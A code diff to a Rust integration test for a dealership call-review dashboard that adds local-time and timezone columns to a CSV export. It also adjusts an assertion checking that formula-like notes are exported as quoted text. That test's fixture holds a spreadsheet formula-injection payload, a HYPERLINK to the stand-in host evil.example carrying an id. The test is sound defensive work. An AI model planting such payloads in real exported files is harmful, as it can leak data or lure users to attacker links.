@@ -14,7 +14,7 @@ use serde_json::json;
 const SELECT: &str = "dealership:dealership_name,local_time,timezone,call_id,customer_phone:customer_phone_masked,duration_sec,verdict,score,reasons:reasons_text,flags:flags_text,review_status,analysis_model";
 
 /// The unresolved list's export columns (`UNRESOLVED_CSV_COLUMNS` in dashboard/src/state/team_view.rs).
-const UNRESOLVED_SELECT: &str = "dealership_id,dealership_name,call_id,status,verdict,score,flags,assignee_name,flagged_at,age_hours,age_bucket,notes";
+const UNRESOLVED_SELECT: &str = "dealership_id,dealership_name,call_id,status,verdict,score,flags,assignee_name,flagged_at,age_hours,age_bucket,notes,flagged_local_time,timezone";
 
 async fn csv(token: Option<&str>, query: &str) -> (u16, String) {
     csv_of("calls_export", token, query).await
@@ -192,10 +192,15 @@ async fn a_call_id_and_a_note_that_look_like_formulas_are_exported_as_text() {
         "the id is quoted: {row}"
     );
     assert!(
-        row.ends_with(&format!(
-            ",\"'=HYPERLINK(\"\"http://evil.example/?{pid}\"\",\"\"click me\"\")\""
+        row.contains(&format!(
+            ",\"'=HYPERLINK(\"\"http://evil.example/?{pid}\"\",\"\"click me\"\")\","
         )),
         "the note is quoted (PostgREST doubles the quotes inside): {row}"
+    );
+    // Then when it was flagged, in the dealership's own zone, and that zone.
+    assert!(
+        row.ends_with(",America/New_York"),
+        "the local time's zone ends the row: {row}"
     );
 
     // On screen (JSON) the note stays exactly as written.
